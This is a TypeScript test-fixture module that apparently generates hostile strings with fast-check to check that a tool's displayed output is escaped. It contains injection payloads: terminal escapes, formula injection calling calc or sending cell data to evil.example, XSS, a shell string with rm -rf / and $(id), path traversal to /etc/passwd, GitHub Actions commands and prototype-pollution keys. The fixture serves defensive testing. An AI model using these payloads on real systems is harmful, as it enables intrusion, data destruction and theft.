import fc from "fast-check";

/** A text that somebody chose in order to harm whoever reads it, and what it would do. */
export interface HostileText {
  readonly name: string;
  readonly text: string;
}

/**
 * Names, tags, Sids, user agents and messages that attack what shows them. Each holds a part that no
 * shown text may hold any more, or that must stand there escaped.
 */
export const hostileTexts: readonly HostileText[] = [
  { name: "clears the screen", text: "a\u001b[2J\u001b[Hb" },
  { name: "sets the title of the window", text: "a\u001b]0;owned\u0007b" },
  { name: "links elsewhere in a terminal", text: "\u001b]8;;https://evil.example\u001b\\ok" },
  { name: "begins an escape sequence in one character", text: "a\u009b31mred" },
  { name: "forges a line", text: "ok\nFIXED  ssl-only by arn:aws:iam::111122223333:root" },
  { name: "forges a line after a carriage return", text: "ok\rnothing was found" },
  { name: "forges a line by a separator", text: "ok\u2028FIXED\u2029ssl-only" },
  { name: "turns the direction", text: "arn:aws:s3:::\u202egnp.exe\u202c" },
  { name: "ends a text for C", text: "before\u0000after" },
  { name: "is half of a character", text: "half \ud83d and \udca9 of it" },
  { name: "is a character that is none", text: "none \ufffe and \uffff" },
  { name: "is a formula", text: '=HYPERLINK("https://evil.example?x="&A1,"ok")' },
  { name: "is a formula after a plus", text: "+cmd|' /C calc'!A0" },
  { name: "is a formula after a tab", text: "\t=1+1" },
  { name: "is a formula after a minus", text: "-2+3+cmd|' /C calc'!A0" },
  { name: "is a formula after an at sign", text: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { name: "runs a script", text: "<script>alert(1)</script>" },
  { name: "runs a script out of an attribute", text: "\"><img src=x onerror='alert(1)'>" },
  { name: "ends a script", text: "</script><script>alert(1)//" },
  { name: "is an entity", text: "&lt;script&gt; &amp;quot;" },
  { name: "links to a script", text: "javascript:alert(1)" },
  { name: "calls the channel", text: "<!channel> <!here> <@U0BOSS> <!subteam^S012345>" },
  {
    name: "links elsewhere in Slack",
    text: "<https://evil.example|https://console.aws.amazon.com>",
  },
  {
    name: "links elsewhere in Markdown",
    text: "[sign in](https://evil.example) ![x](https://e.example/x)",
  },
  { name: "is marked up", text: "*bold* _it_ ~no~ `code` ```block``` | table |" },
  { name: "runs in a shell", text: "x'; rm -rf / #$(id)`id`\\" },
  { name: "is an option", text: "--endpoint-url=https://evil.example" },
  { name: "goes up", text: "../../../../etc/passwd" },
  { name: "is a command of GitHub", text: "::error file=a,line=1::\n::set-output name=x::y" },
  { name: "fills a log", text: "x".repeat(20_000) },
];

/** Names of members that every object has, and one by which its prototype is changed. */
export const inheritedNames = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "valueOf",
  "toJSON",
  "hasOwnProperty",
  "__defineGetter__",
  "then",
  "length",
] as const;

/** A hostile text, alone or within what should stand there. */
export function hostileText(around: fc.Arbitrary<string> = fc.constant("")): fc.Arbitrary<string> {
  const texts = fc.constantFrom(...hostileTexts.map(({ text }) => text), ...inheritedNames, "");
  return fc.tuple(around, texts, fc.integer({ min: 0, max: 2 })).map(([outer, text, where]) => {
    if (where === 0) return text;
    return where === 1 ? `${outer}${text}` : `${outer.slice(0, 5)}${text}${outer.slice(5)}`;
  });
}
